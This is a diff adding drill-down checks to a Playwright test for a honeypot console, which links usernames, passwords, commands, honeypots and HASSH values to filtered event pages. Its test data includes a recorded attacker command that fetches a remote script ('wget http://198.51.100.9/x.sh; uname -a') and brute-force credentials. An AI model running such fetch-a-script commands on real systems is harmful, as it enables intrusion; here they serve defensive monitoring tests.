@@ -135,6 +135,40 @@ test("install from /nodes, attack, and see it on every page; a command from /nod
   // The newest event when the page was read: one of those stored by now.
   expect((await storedNow()).some((e) => facts?.includes(`Last seen${shown(e)}`))).toBe(true);
 
+  // Drill-down (issue 34, 5): each kind of value in a table leads to the events it filters.
+  // Usernames, passwords and commands are matched by the events page itself; every row it shows has them.
+  const cells = (column: number) => table.locator(`tbody tr td:nth-child(${column})`).allTextContents();
+  const drill = async (link: ReturnType<typeof page.getByRole>, url: string | RegExp, rowText: string) => {
+    await link.click();
+    await page.waitForURL(typeof url === "string" ? core.api + url : url);
+    await table.getByText(rowText, { exact: true }).first().waitFor();
+  };
+  await drill(creds.getByRole("link", { name: "root", exact: true }), "/events?username=root", "root / 123456");
+  expect(new Set(await cells(5))).toEqual(new Set(["root / 123456"]));
+  await page.getByTestId("filter-summary").getByText(/events read to find these/).waitFor();
+  await page.goBack();
+  await drill(creds.getByRole("link", { name: "hunter2", exact: true }), "/events?password=hunter2", "admin / hunter2");
+  expect(await cells(4)).toEqual(["honnypotter.login.failed"]);
+  await page.goBack();
+  await drill(page.getByTestId("commands").getByRole("link", { name: "wget http://198.51.100.9/x.sh; uname -a" }), `/events?${new URLSearchParams({ command: "wget http://198.51.100.9/x.sh; uname -a" })}`, "wget http://198.51.100.9/x.sh; uname -a");
+  expect(await cells(4)).toEqual(["cowrie.command.input"]);
+  await page.goBack();
+  // On an attacker's page, its event types and honeypots lead to its own events of them.
+  await drill(page.getByTestId("attacker-events").getByRole("link", { name: "honnypotter.login.failed" }).first(), "/events?src_ip=127.0.0.1&event_type=honnypotter.login.failed", "honnypotter.login.failed");
+  expect(new Set(await cells(2))).toEqual(new Set(["127.0.0.1"]));
+  // An events row's honeypot leads to that pot's events on its node; its event type to all of that type.
+  await drill(table.getByRole("link", { name: "web-01" }).first(), `/events?node_id=${nodeId}&pot_id=web-01`, "honnypotter.login.failed");
+  expect(new Set(await cells(3))).toEqual(new Set(["web-01"]));
+  await drill(table.getByRole("link", { name: "honnypotter.login.failed" }).first(), "/events?event_type=honnypotter.login.failed", "admin / hunter2");
+  // /nodes: a pot's events by the node's name (REST resolves it), its kind's events.
+  await page.goto(core.api + "/nodes");
+  await drill(page.getByTestId("nodes").getByRole("link", { name: "ssh-01" }), "/events?node_id=sensor-1&pot_id=ssh-01", "root / 123456");
+  expect(new Set(await cells(3))).toEqual(new Set(["ssh-01"]));
+  await page.goto(core.api + "/nodes");
+  await drill(page.getByTestId("nodes").getByRole("link", { name: "honnypotter" }), "/events?pot_type=honnypotter", "admin / hunter2");
+  await page.goto(core.api + "/nodes");
+  await drill(page.getByTestId("nodes").getByRole("link", { name: "events", exact: true }), "/events?node_id=sensor-1", "root / 123456");
+
   // / Overview: totals, top lists, health; a reload of a console URL lands on the same page.
   await page.goto(core.api + "/");
   await page.getByTestId("top-usernames").getByText("root").waitFor();
@@ -147,10 +181,23 @@ test("install from /nodes, attack, and see it on every page; a command from /nod
   await page.getByTestId("last-hour").getByText(String(all), { exact: true }).waitFor();
   await page.reload();
   await page.getByTestId("top-usernames").getByText("root").waitFor();
+  // Top usernames, passwords and commands lead to the events that have them.
+  await drill(page.getByTestId("top-usernames").getByRole("link", { name: "admin", exact: true }), /\/events\?(.*&)?username=admin$/, "admin / not-the-password");
+  expect(new Set((await cells(5)).map((t) => t.split(" / ")[0]))).toEqual(new Set(["admin"]));
+  await page.goBack();
+  await drill(page.getByTestId("top-passwords").getByRole("link", { name: "not-the-password" }), /\/events\?(.*&)?password=not-the-password$/, "admin / not-the-password");
+  await page.goBack();
+  await drill(page.locator("#top-commands").getByRole("link", { name: "wget http://198.51.100.9/x.sh; uname -a" }), /\/events\?(.*&)?command=wget/, "wget http://198.51.100.9/x.sh; uname -a");
+  await page.goBack();
   // The SSH clients of the test's sessions by HASSH (the built-in cowrie's cowrie.client.kex): a link to their key exchanges.
   await page.getByTestId("top-hassh").getByRole("link").first().click();
   await page.waitForURL(/\/events\?hassh=[0-9a-f]{32}$/);
   await page.getByTestId("events").getByText("cowrie.client.kex").first().waitFor();
+  // A key exchange's HASSH in an events row leads to the same filter.
+  const hassh = new URL(page.url()).searchParams.get("hassh")!;
+  await table.getByRole("link", { name: hassh }).first().click();
+  await page.waitForURL(`${core.api}/events?hassh=${hassh}`);
+  await table.getByText("cowrie.client.kex").first().waitFor();
 
   // Pages whose API this Core lacks say so; settings explain the roles.
   // Sessions and GeoIP exist on this Core: the test's SSH sessions are listed; the map pages
@@ -169,12 +216,16 @@ test("install from /nodes, attack, and see it on every page; a command from /nod
   // The exec session of the /live check and this shell: both logged in.
   expect(await page.getByTestId("sessions").locator("tbody tr").count()).toBe(2);
   expect(await sessionRow.locator("td").allTextContents()).toEqual([expect.any(String), "127.0.0.1", "ssh-01", "root / 123456", "3", "0", expect.stringMatching(/ s$/), "yes", shell.session]);
+  // A session's honeypot leads to its events on its node.
+  expect(await sessionRow.getByRole("link", { name: "ssh-01" }).getAttribute("href")).toBe(`/events?node_id=${nodeId}&pot_id=ssh-01`);
   await sessionRow.getByRole("link", { name: shell.session }).click();
   await page.waitForURL(`${core.api}/sessions/${shell.id}`);
   await page.getByTestId("credentials").getByText("root / 123456").waitFor();
   const commands = page.getByTestId("commands");
   await commands.locator("li", { hasText: "echo honeybee-was-here" }).waitFor();
   expect(await commands.locator("li").allTextContents()).toEqual(["frobnicatenot found", "echo honeybee-was-here", "exit"]);
+  expect(await commands.getByRole("link", { name: "frobnicate" }).getAttribute("href")).toBe("/events?command=frobnicate");
+  expect(await page.getByTestId("session-events").getByRole("link", { name: "cowrie.command.failed" }).getAttribute("href")).toBe("/events?src_ip=127.0.0.1&event_type=cowrie.command.failed");
   await page.getByTestId("session-events").getByText("cowrie.log.closed").waitFor();
   // The player: asciinema-player's element; played, its terminal shows what was typed.
   const player = page.getByTestId("player").locator(".ap-player");
